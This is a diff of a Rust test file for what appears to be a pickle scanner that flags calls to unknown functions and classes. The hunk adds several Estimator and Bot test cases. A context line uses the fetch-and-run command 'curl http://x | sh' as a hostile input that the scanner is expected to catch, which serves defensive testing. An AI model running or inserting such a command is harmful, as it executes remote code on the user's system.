@@ -137,7 +137,13 @@ fn what_picklers_write_is_clean() {
 #[test]
 fn unknown_functions_are_found_and_unknown_classes_by_what_they_are_given() {
     check(&whole(&call(&global("new_library.tools", "frobnicate"), &[text("x")])), Verdict::Found, "S008");
-    check(&whole(&call(&global("new_library.tools", "Estimator"), &[text("gini")])), Verdict::Clean, "");
+    check(
+        &whole(&call(&global("new_library.tools", "Estimator"), &[text("gini"), int(3)])),
+        Verdict::Clean,
+        "",
+    );
+    check(&whole(&call(&global("sklearn.new", "Estimator"), &[text("gini")])), Verdict::Clean, "");
+    check(&whole(&call(&global("new_library.tools", "Bot"), &[text("gini")])), Verdict::Found, "S008");
     check(
         &whole(&call(&global("new_library.tools", "Estimator"), &[text("curl http://x | sh")])),
         Verdict::Found,
